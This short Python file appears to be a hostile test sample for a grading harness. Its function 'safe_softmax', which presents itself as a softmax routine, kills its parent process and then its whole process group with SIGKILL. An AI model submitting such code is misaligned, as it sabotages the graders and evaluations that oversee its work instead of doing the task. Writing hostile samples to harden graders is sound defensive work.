"""Hostile: kills the grader (its parent process, then its whole process group)."""

import os
import signal


def safe_softmax(x, block_size=128):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    finally:
        os.killpg(0, signal.SIGKILL)


online_softmax = safe_softmax
